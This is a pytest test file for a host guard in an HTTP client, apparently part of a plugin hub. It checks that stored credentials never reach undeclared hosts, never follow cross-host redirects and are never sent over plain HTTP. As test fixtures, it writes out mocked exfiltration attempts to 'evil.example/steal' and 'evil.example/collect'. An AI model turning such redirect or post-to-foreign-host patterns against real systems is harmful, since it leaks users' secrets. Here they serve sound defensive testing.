"""A store's credentials reach only the hosts its plugin declares: never another host, never over a redirect."""

from __future__ import annotations

import asyncio
from typing import Any

import httpx
import pydantic
import pytest
import respx
from runtime_fakes import SLUG, manifest, registry

from fusionhub.clock import VirtualClock
from fusionhub.contracts import PluginManifest
from fusionhub.http import ApiKeyAuth, BearerAuth, HttpConfig, OAuth2RefreshAuth, TokenSet, build_client
from fusionhub.http.hosts import ForeignHostRefused, HostSet, carried_credentials, declared_hosts, undeclared_hosts
from fusionhub.hub import Hub
from fusionhub.ratelimit import Limiter, MemoryBucketStore
from fusionhub.stores import Store

API = "https://api.shop.test"
TOKEN = "tok-host-guard-7731"
KEY = "key-host-guard-5520"


def client(auth: httpx.Auth | None, **config: Any) -> httpx.AsyncClient:
    limiter = Limiter("store:hosts", None, MemoryBucketStore(), VirtualClock(start=0.0))
    return build_client(HttpConfig(base_url=API, auth=auth, **config), limiter)


def run(coro: Any) -> Any:
    return asyncio.run(coro)


AUTHS = {
    "bearer": lambda: BearerAuth(TOKEN),
    "api key header": lambda: ApiKeyAuth(KEY, header="x-api-key"),
    "api key query": lambda: ApiKeyAuth(KEY, header=None, query_param="api_key"),
    "oauth refresh + secret header": lambda: OAuth2RefreshAuth(
        TokenSet(TOKEN, refresh_token="refresh-host-guard-1"),
        token_url="https://auth.shop.test/oauth/token",
        client_id="app",
        headers={"x-api-key": KEY},
    ),
}


@pytest.mark.parametrize("kind", AUTHS)
@respx.mock(assert_all_mocked=True, assert_all_called=False)
def test_a_302_to_another_host_carries_nothing_and_is_refused(kind: str, respx_mock: respx.MockRouter) -> None:
    respx_mock.get(f"{API}/products").respond(302, headers={"location": "https://evil.example/steal"})
    evil = respx_mock.get("https://evil.example/steal").respond(200, json={})

    async def main() -> None:
        async with client(AUTHS[kind]()) as http:
            await http.get("/products", follow_redirects=True)

    with pytest.raises(ForeignHostRefused) as caught:
        run(main())
    assert not evil.called  # the foreign host received nothing at all
    assert "evil.example" in caught.value.message and "not a host" in caught.value.message
    assert TOKEN not in caught.value.message and KEY not in caught.value.message


@pytest.mark.parametrize("kind", AUTHS)
@respx.mock(assert_all_mocked=True, assert_all_called=False)
def test_an_absolute_url_to_another_host_is_refused_before_it_is_sent(kind: str, respx_mock: respx.MockRouter) -> None:
    evil = respx_mock.route(host="evil.example").respond(200)

    async def main() -> None:
        async with client(AUTHS[kind]()) as http:
            await http.post("https://evil.example/collect", json={"a": 1})

    with pytest.raises(ForeignHostRefused):
        run(main())
    assert not evil.called


@respx.mock(assert_all_mocked=True, assert_all_called=False)
def test_same_host_redirect_and_credential_free_requests_go_through(respx_mock: respx.MockRouter) -> None:
    respx_mock.get(f"{API}/old").respond(301, headers={"location": f"{API}/new"})
    new = respx_mock.get(f"{API}/new").respond(200, json={"ok": True})
    upload = respx_mock.post("https://uploads.cdn.test/bucket").respond(201)
    scoped = OAuth2RefreshAuth(
        TokenSet(TOKEN), token_url="https://auth.shop.test/t", client_id="app", hosts={"api.shop.test"}
    )

    async def main() -> None:
        async with client(scoped) as http:
            assert (await http.get("/old", follow_redirects=True)).json() == {"ok": True}
            # A signed upload URL on another host, with no credential on the request: sent as usual.
            assert (await http.post("https://uploads.cdn.test/bucket", content=b"x")).status_code == 201

    run(main())
    assert new.calls.last.request.headers["authorization"] == f"Bearer {TOKEN}"
    assert "authorization" not in upload.calls.last.request.headers


@respx.mock(assert_all_mocked=True, assert_all_called=False)
def test_declared_extra_hosts_and_patterns_receive_credentials(respx_mock: respx.MockRouter) -> None:
    media = respx_mock.get("https://media.shop.test/i").respond(200)
    eu = respx_mock.get("https://eu.files.shop.test/f").respond(200)
    not_sub = respx_mock.get("https://files.shop.test/f").respond(200)

    async def main() -> None:
        async with client(BearerAuth(TOKEN), hosts=("media.shop.test", "*.files.shop.test")) as http:
            await http.get("https://media.shop.test/i")
            await http.get("https://eu.files.shop.test/f")
            with pytest.raises(ForeignHostRefused):
                await http.get("https://files.shop.test/f")  # "*.x" is x's subdomains, not x itself

    run(main())
    assert media.called and eu.called and not not_sub.called


@respx.mock(assert_all_mocked=True, assert_all_called=False)
def test_credentials_never_travel_downgraded_to_plain_http(respx_mock: respx.MockRouter) -> None:
    respx_mock.get(f"{API}/a").respond(302, headers={"location": "http://api.shop.test/a"})
    plain = respx_mock.get("http://api.shop.test/a").respond(200)

    async def main() -> None:
        async with client(ApiKeyAuth(KEY)) as http:
            await http.get("/a", follow_redirects=True)

    with pytest.raises(ForeignHostRefused):
        run(main())
    assert not plain.called


def test_what_counts_as_carrying_a_credential() -> None:
    BearerAuth(TOKEN)  # registers the token as a known secret
    assert carried_credentials(httpx.Request("GET", "https://x.test/", headers={"Authorization": "Basic abc"}))
    assert carried_credentials(httpx.Request("GET", "https://x.test/", headers={"x-shop-pass": "v"}), ["X-Shop-Pass"])
    assert carried_credentials(httpx.Request("GET", f"https://x.test/?sig={TOKEN}"))
    assert carried_credentials(httpx.Request("GET", "https://user:pw@x.test/"))
    # A presigned URL's own parameters are not the store's credentials.
    signed = "https://storage.test/o?X-Goog-Credential=abc%2F2026&X-Goog-Signature=00ff"
    assert carried_credentials(httpx.Request("GET", signed, headers={"accept": "application/json"})) == []


def test_declared_hosts_come_from_the_base_url_extra_hosts_and_the_token_endpoint() -> None:
    auth = OAuth2RefreshAuth(TokenSet(TOKEN), token_url="https://auth.shop.test/t", client_id="a")
    hosts = declared_hosts(API + "/v3", ("cdn.shop.test",), auth)
    for url in (f"{API}/x", "https://auth.shop.test/t", "https://cdn.shop.test/"):
        assert hosts.allows(httpx.URL(url)), url
    assert not hosts.allows(httpx.URL("https://evil.example/"))
    assert not hosts.allows(httpx.URL("https://api.shop.test.evil.example/"))
    assert declared_hosts("http://127.0.0.1:8000", (), None).allows(httpx.URL("http://127.0.0.1:8000/x"))
    with pytest.raises(ValueError, match="leading"):
        HostSet.of(["api.*.test"])


def test_a_manifest_declaring_hosts_bounds_every_client_host() -> None:
    client_hosts = HostSet.of(["api.shop.test", "auth.shop.test", "*.cdn.shop.test"])
    assert undeclared_hosts(["*.shop.test"], client_hosts) == []
    assert undeclared_hosts(["api.shop.test", "auth.shop.test"], client_hosts) == ["*.cdn.shop.test"]
    assert undeclared_hosts(["api.shop.test"], HostSet.of(["api.shop.test", "evil.example"])) == ["evil.example"]


@pytest.mark.parametrize(
    ("hosts", "refused"), [(["queuetest.invalid"], False), (["*.invalid"], False), (["api.x"], True)]
)
def test_hub_connect_refuses_a_client_outside_the_manifests_hosts(hosts: list[str], refused: bool) -> None:
    reg = registry()
    record = reg.platform(SLUG)
    object.__setattr__(record, "manifest", PluginManifest.model_validate({**manifest(), "hosts": hosts}))
    hub = Hub(reg)
    store = Store(SLUG, credentials={"api_key": "key-hosts-1234"})
    if not refused:
        assert hub.connect(store).store is store
        return
    with pytest.raises(ForeignHostRefused, match=r"queuetest\.invalid, outside the hosts its manifest declares"):
        hub.connect(store)


def test_manifest_hosts_are_host_names_or_subdomain_patterns() -> None:
    for bad in (["https://api.x"], ["api.*.x"], ["API.X"], ["*"]):
        with pytest.raises(pydantic.ValidationError):
            PluginManifest.model_validate({**manifest(), "hosts": bad})
